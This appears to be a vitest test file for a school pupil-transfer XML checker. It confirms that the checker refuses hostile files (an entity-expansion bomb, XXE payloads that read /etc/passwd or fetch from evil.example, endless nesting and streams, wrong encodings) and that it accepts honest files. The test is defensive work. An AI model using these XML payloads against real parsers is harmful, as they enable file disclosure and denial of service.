import { describe, expect, test } from "vitest";
import { transferFile } from "../../test/support/transfer-file.ts";
import { capsOfAnyFile } from "./caps.ts";
import { checkTransferFile } from "./check-file.ts";
import { UnreadableTransferFile } from "./fault.ts";

const today = Temporal.PlainDate.from("2026-11-29");
const bytes = (text: string, encoding: BufferEncoding = "utf8") => [Buffer.from(text, encoding)];

/** Why a file is refused outright. */
async function refusal(source: Parameters<typeof checkTransferFile>[0], caps = {}): Promise<string> {
  const fault: unknown = await checkTransferFile(
    source,
    { fileName: undefined, today },
    { ...capsOfAnyFile, ...caps },
  ).catch((thrown: unknown) => thrown);
  expect(fault).toBeInstanceOf(UnreadableTransferFile);
  return (fault as Error).message;
}

const withBeginning = (beginning: string, more = "") =>
  transferFile({ beginning: `<?xml version="1.0"?>\n${beginning}\n`, pupils: [{ more }] });

describe("a hostile file is refused with its reason", () => {
  test("an entity bomb is not set off [F04]", async () => {
    const bomb = Array.from(
      { length: 20 },
      (_, at) => `<!ENTITY a${at + 1} "${`&a${at};`.repeat(10)}">`,
    ).join("");
    const file = withBeginning(`<!DOCTYPE CTfile [<!ENTITY a0 "ha">${bomb}]>`, "<Note>&a20;</Note>");
    expect(await refusal(bytes(file))).toContain("declares a document type or entities");
  });

  test.each([
    ["an external entity", '<!DOCTYPE CTfile [<!ENTITY x SYSTEM "file:///etc/passwd">]>'],
    ["an external document type", '<!DOCTYPE CTfile SYSTEM "http://evil.example/ctf.dtd">'],
    ["a parameter entity", '<!DOCTYPE CTfile [<!ENTITY % p SYSTEM "http://evil.example/p"> %p;]>'],
  ])("%s is never fetched [F04]", async (_what, beginning) => {
    expect(await refusal(bytes(withBeginning(beginning, "<Note>&x;</Note>")))).toContain(
      "declares a document type or entities",
    );
  });

  test("an entity that nobody declared is named as such, with line and element [F04]", async () => {
    expect(await refusal(bytes(transferFile({ pupils: [{ more: "<Note>&x;</Note>" }] })))).toMatch(
      /^Line 18, CTfile\/CTFpupilData\/Pupil\/Note: The file uses an entity of its own/,
    );
  });

  test("elements within one another without end are refused early [F04]", async () => {
    const deep = `${"<a>".repeat(100_000)}${"</a>".repeat(100_000)}`;
    expect(await refusal(bytes(transferFile({ pupils: [{ more: deep }] })))).toContain(
      "More than 24 elements stand within one another",
    );
  });

  test("a gigabyte is refused as it comes, whatever it is made of [F04]", async () => {
    const megabyte = Buffer.alloc(1024 * 1024, " ");
    let given = 0;
    async function* gigabyte() {
      yield Buffer.from("<CTfile>");
      for (; given < 1024; given++) yield megabyte;
    }
    expect(await refusal(gigabyte(), { piece: Number.POSITIVE_INFINITY, bytes: 40 * 1024 * 1024 })).toContain(
      "larger than 40 MB",
    );
    expect(given).toBeLessThan(45);
  });

  test.each([
    ["text", "<Note>", "x"],
    ["a comment", "<!--", "x"],
    ["an attribute", '<Note words="', "x"],
    ["a name", "<N", "x"],
    ["an instruction", "<?x ", "x"],
    ["many attributes", "<Note ", ' b="1"'],
  ])("%s without end does not fill the memory [F04]", async (_what, begins, each) => {
    let given = 0;
    async function* endless() {
      yield Buffer.from(`<CTfile><Header>${begins}`);
      for (; given < 10_000; given++) yield Buffer.from(each.repeat(64 * 1024));
    }
    expect(await refusal(endless())).toMatch(/One piece of the file is longer|disallowed|attribute/);
    expect(given).toBeLessThan(40);
  });

  test("a pupil of a million elements is refused [F04]", async () => {
    const many = "<a/>".repeat(30_000);
    expect(await refusal(bytes(transferFile({ pupils: [{ more: many }] })))).toContain(
      "One pupil has more than 20000 elements",
    );
  });

  test.each([
    [
      "Latin-1 that says it is UTF-8",
      bytes(transferFile({ pupils: [{ surname: "Ménard" }] }), "latin1"),
      "not the UTF-8",
    ],
    ["UTF-16 without its mark", bytes(transferFile(), "utf16le"), "UTF-16 without its mark"],
    ["UTF-16 that says it is UTF-8", bytes(`\uFEFF${transferFile()}`, "utf16le"), "is UTF-16. Save it"],
    [
      "UTF-8 with its mark that says it is Latin-1",
      bytes(`\uFEFF${withEncoding("ISO-8859-1")}`),
      "begins as UTF-8",
    ],
    ["an encoding that nobody uses", bytes(withEncoding("UTF-7")), "utf-7"],
    ["a zip archive", [Buffer.from("PK\x03\x04")], "compressed"],
    ["nothing at all", [], "empty"],
    ["XML 1.1", bytes(transferFile({ beginning: '<?xml version="1.1"?>' })), "XML 1.1"],
    ["another kind of XML", bytes("<html><body/></html>"), "begins with html"],
    ["half a file", bytes(transferFile().slice(0, -40)), "breaks off"],
    [
      "words between the pupils",
      bytes(transferFile().replace("</Pupil>", "</Pupil>words")),
      "Text stands here",
    ],
  ])("%s is refused [F04]", async (_what, source, says) => {
    expect(await refusal(source)).toContain(says);
  });
});

function withEncoding(encoding: string): string {
  return transferFile({ beginning: `<?xml version="1.0" encoding="${encoding}"?>` });
}

describe("honest files in the encodings that schools' systems write", () => {
  test.each([
    ["UTF-8 with its mark", bytes(`\uFEFF${transferFile({ pupils: [{ surname: "Ménard" }] })}`)],
    ["Latin-1 that says so", bytes(withEncoding("ISO-8859-1").replace("WINDLE", "Ménard"), "latin1")],
    ["UTF-16 with its mark", bytes(`\uFEFF${withEncoding("UTF-16")}`, "utf16le")],
    [
      "one byte at a time",
      Array.from(Buffer.from(transferFile({ pupils: [{ surname: "Ménard" }] })), (byte) => Buffer.of(byte)),
    ],
  ])("%s is read [F04]", async (_what, source) => {
    const report = await checkTransferFile(source, { fileName: undefined, today });
    expect(report.faults).toEqual([]);
    expect(report.pupils).toBe(1);
  });
});
